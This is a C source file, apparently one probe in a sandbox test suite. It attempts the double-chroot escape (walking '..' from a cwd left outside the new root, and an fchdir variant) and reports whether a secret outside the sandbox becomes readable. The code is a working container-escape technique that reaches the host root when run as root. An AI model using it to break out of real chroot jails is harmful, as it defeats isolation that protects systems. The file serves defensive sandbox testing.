/* Attack: the classic double-chroot escape. chroot() does not move the
 * cwd, so a process that chroots into a subdirectory and then walks ".."
 * from its cwd (which now lies outside its root) reaches the real root;
 * chroot(".") there makes it the root again. Variants:
 *   cwd      mkdir sub, chroot("sub") (cwd left outside it), chdir("..")
 *            64 times, chroot("."), then open the secret's absolute path;
 *   fchdir   open(".") before chroot("sub"), chroot, fchdir(that fd),
 *            then the same walk;
 *   relative after fchdir, also the secret's path relative to the cwd.
 *
 * Stops it: layer 3, chroot is refused with EPERM (and neither a root
 * guest, with its bounded capabilities, nor a user's guest has
 * CAP_SYS_CHROOT); layer 1 holds anyway: the "real root" such a walk could
 * reach is the sandbox's root, where the secret is absent.
 * Natively, as root: the walk reaches the host root and reads the secret
 * (ESCAPED). As another user, chroot needs CAP_SYS_CHROOT (EPERM) and the
 * driver skips the native check.
 *
 * Usage: chroot_escape TOKEN SECRET_ABS REL_PATH (REL_PATH from the cwd)
 */
#include <sys/stat.h>

#include "escape.h"

static void walk_out_and_read(const char *variant, const char *abs)
{
	char name[128];
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0) {
			escape_note("%s: chdir(..): %s", variant, strerror(errno));
			return;
		}
	if (chroot(".") < 0) {
		escape_note("%s: chroot(.): %s", variant, strerror(errno));
	} else {
		snprintf(name, sizeof(name), "%s: chroot(.)+open(abs)", variant);
		try_open(name, abs);
	}
	snprintf(name, sizeof(name), "%s: open(abs-1) from the top", variant);
	try_open(name, abs + 1);
}

int main(int argc, char **argv)
{
	escape_init(argc, argv, "chroot-escape", 2, "SECRET_ABS REL_PATH");
	const char *abs = argv[2], *rel = argv[3];
	if (mkdir("chroot-sub", 0755) < 0 && errno != EEXIST)
		setup_failed("mkdir chroot-sub: %s", strerror(errno));
	int dot = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (dot < 0)
		setup_failed("open(.): %s", strerror(errno));

	/* Variant cwd: the cwd stays where it was, outside the new root. */
	if (chroot("chroot-sub") < 0) {
		escape_note("chroot(sub): %s", strerror(errno));
	} else {
		walk_out_and_read("cwd", abs);
	}

	/* Variant fchdir: back to a directory fd from before the chroot. */
	if (fchdir(dot) < 0)
		setup_failed("fchdir: %s", strerror(errno));
	if (chroot("chroot-sub") < 0) {
		escape_note("chroot(sub) again: %s", strerror(errno));
	} else {
		if (chdir("/") < 0 || fchdir(dot) < 0)
			setup_failed("chdir/fchdir: %s", strerror(errno));
		try_open("fchdir: open(rel)", rel);
		walk_out_and_read("fchdir", abs);
	}

	/* And after all that, the plain names. */
	try_open("open(abs)", abs);
	contained();
}
